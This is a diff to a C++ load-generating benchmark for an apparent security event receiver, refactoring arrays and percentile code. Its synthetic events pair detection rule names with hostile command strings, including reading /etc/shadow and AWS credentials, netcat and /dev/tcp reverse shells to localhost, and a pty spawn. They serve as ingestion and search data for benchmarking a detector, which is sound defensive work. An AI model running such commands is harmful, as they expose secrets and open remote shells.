@@ -5,9 +5,8 @@
 //   2. search by rule + time window, pod and text filter (p50/p95/p99), idle and while
 //      more events are being ingested;
 //   3. the receiver's RSS (sampled from /proc) during all of it.
-// With --hostile N it measures instead what N slow heads, N idle keep-alive connections and
-// N streams that never read (all from 127.0.0.2) cost health checks and ingestion.
-// Prints a Markdown table and a JSON line. Not a test: no pass/fail.
+// With --hostile N: what N slow heads, N idle keep-alive connections and N unread streams
+// (from 127.0.0.2) cost health checks and ingestion. Prints Markdown and a JSON line.
 #include <httplib.h>
 #include <signal.h>
 #include <spawn.h>
@@ -16,8 +15,10 @@
 
 #include <CLI/CLI.hpp>
 #include <algorithm>
+#include <array>
 #include <atomic>
 #include <chrono>
+#include <cmath>
 #include <cstdio>
 #include <filesystem>
 #include <fstream>
@@ -39,24 +40,24 @@ namespace sandwatch::loadgen {
 using Clock = std::chrono::steady_clock;
 using sandwatch::FormatRfc3339;
 
-const char* kRules[] = {"unexpected_shell",
-                        "shadow_file_access",
-                        "aws_credential_discovery",
-                        "package_manager_execution",
-                        "post_start_binary_execution",
-                        "nc_execution",
-                        "reverse_shell",
-                        "suspicious_outbound_connection",
-                        "suspicious_process_chain"};
-const char* kCmds[] = {"cat /etc/shadow",
-                       "bash -i",
-                       "cat /root/.aws/credentials",
-                       "apt-get install -y ncat",
-                       "/tmp/payload --connect",
-                       "nc -e /bin/sh 127.0.0.1 4444",
-                       "bash -c exec 3<>/dev/tcp/127.0.0.1/4444",
-                       "curl http://127.0.0.1:8081/x",
-                       "python3 -c import pty;pty.spawn('/bin/sh')"};
+const std::array<const char*, 9> kRules = {"unexpected_shell",
+                                           "shadow_file_access",
+                                           "aws_credential_discovery",
+                                           "package_manager_execution",
+                                           "post_start_binary_execution",
+                                           "nc_execution",
+                                           "reverse_shell",
+                                           "suspicious_outbound_connection",
+                                           "suspicious_process_chain"};
+const std::array<const char*, 9> kCmds = {"cat /etc/shadow",
+                                          "bash -i",
+                                          "cat /root/.aws/credentials",
+                                          "apt-get install -y ncat",
+                                          "/tmp/payload --connect",
+                                          "nc -e /bin/sh 127.0.0.1 4444",
+                                          "bash -c exec 3<>/dev/tcp/127.0.0.1/4444",
+                                          "curl http://127.0.0.1:8081/x",
+                                          "python3 -c import pty;pty.spawn('/bin/sh')"};
 
 // Events arrive roughly in time order, as from live sensors: event i of n is placed
 // at i/n of the last 24 h, with up to 5 s of jitter.
@@ -92,7 +93,7 @@ struct Latencies {
   double Pct(double p) {
     if (ms.empty()) return 0;
     std::sort(ms.begin(), ms.end());
-    size_t i = static_cast<size_t>(p * static_cast<double>(ms.size() - 1) + 0.5);
+    auto i = static_cast<size_t>(std::lround(p * static_cast<double>(ms.size() - 1)));
     return ms[std::min(i, ms.size() - 1)];
   }
 };
@@ -168,13 +169,12 @@ double Metric(httplib::Client& c, const std::string& series) {
 }
 
 // Common, medium and rare terms, one- and two-word.
-const char* const kTerms[] = {"shadow",    "credentials", "4444",    "pod-17%20",
-                              "host-4321", "pty.spawn",   "nc%20-e", "bash%20-i"};
-constexpr size_t kTermCount = sizeof(kTerms) / sizeof(kTerms[0]);
+const std::array kTerms{"shadow",    "credentials", "4444",    "pod-17%20",
+                        "host-4321", "pty.spawn",   "nc%20-e", "bash%20-i"};
 
 struct Searches {
   Latencies rule_time, rule_15m, text, text_rule, pod;
-  std::vector<Latencies> text_by_term = std::vector<Latencies>(kTermCount);
+  std::vector<Latencies> text_by_term = std::vector<Latencies>(kTerms.size());
 };
 
 Searches RunSearches(httplib::Client& c, int n, int64_t now_ns, uint64_t seed) {
@@ -195,7 +195,7 @@ Searches RunSearches(httplib::Client& c, int n, int64_t now_ns, uint64_t seed) {
   s.text = RunQueries(
       c, n,
       [&](int i) {
-        return std::string("/api/events?filter=") + kTerms[static_cast<size_t>(i) % kTermCount] +
+        return std::string("/api/events?filter=") + kTerms[static_cast<size_t>(i) % kTerms.size()] +
                "&limit=100";
       },
       &s.text_by_term);
@@ -217,20 +217,20 @@ void PrintSearches(const char* when, Searches& s) {
   std::printf("| %s: text + rule + since=2h (p50 / p95 / p99) | %.1f / %.1f / %.1f ms |\n", when,
               s.text_rule.Pct(0.5), s.text_rule.Pct(0.95), s.text_rule.Pct(0.99));
   std::string terms;
-  for (size_t t = 0; t < kTermCount; ++t) {
+  for (size_t t = 0; t < kTerms.size(); ++t) {
     std::string shown = kTerms[t];
     for (size_t at; (at = shown.find("%20")) != std::string::npos;) shown.replace(at, 3, " ");
-    char part[128];
-    std::snprintf(part, sizeof part, "%s`%s` %.1f / %.1f", t ? ", " : "", shown.c_str(),
+    std::array<char, 128> part{};
+    std::snprintf(part.data(), part.size(), "%s`%s` %.1f / %.1f", t ? ", " : "", shown.c_str(),
                   s.text_by_term[t].Pct(0.5), s.text_by_term[t].Pct(0.95));
-    terms += part;
+    terms += part.data();
   }
   std::printf("| %s: text filter by term (p50 / p95 ms) | %s |\n", when, terms.c_str());
 }
 
 }  // namespace sandwatch::loadgen
 
-int main(int argc, char** argv) {
+int main(int argc, char** argv) {      // NOLINT(bugprone-exception-escape): bench, fails loudly
   using namespace sandwatch::loadgen;  // NOLINT
   Options o;
   std::filesystem::path self = std::filesystem::canonical("/proc/self/exe");
@@ -265,10 +265,9 @@ int main(int argc, char** argv) {
   std::vector<std::string> args = {o.receiver,     "--listen", "127.0.0.1:0", "--db", o.db,
                                    "--ready-file", ready,      "--log-level", "warn"};
   for (const auto& extra : o.receiver_args) args.push_back(extra);
-  if (o.no_fts) args.push_back("--no-fts");
-  std::vector<char*> argvv;
-  for (auto& a : args) argvv.push_back(a.data());
-  argvv.push_back(nullptr);
+  if (o.no_fts) args.emplace_back("--no-fts");
+  std::vector<char*> argvv(args.size() + 1, nullptr);
+  std::transform(args.begin(), args.end(), argvv.begin(), [](std::string& a) { return a.data(); });
   pid_t pid = -1;
   if (posix_spawn(&pid, argvv[0], nullptr, nullptr, argvv.data(), environ) != 0) {
     std::fprintf(stderr, "cannot start %s\n", o.receiver.c_str());
@@ -369,10 +368,10 @@ int main(int argc, char** argv) {
   for (const auto& [name, secs] : threads) {
     double v = name == "sw-writer" ? secs - fts_cpu : secs;
     if (v * per_event < 0.05) continue;
-    char part[96];
-    std::snprintf(part, sizeof part, "%s%s %.1f", split.empty() ? "" : ", ", name.c_str(),
+    std::array<char, 96> part{};
+    std::snprintf(part.data(), part.size(), "%s%s %.1f", split.empty() ? "" : ", ", name.c_str(),
                   v * per_event);
-    split += part;
+    split += part.data();
   }
   std::printf("| CPU per event by thread, fill + catch-up (us) | %s, text index %.1f |\n",
               split.c_str(), fts_cpu * per_event);
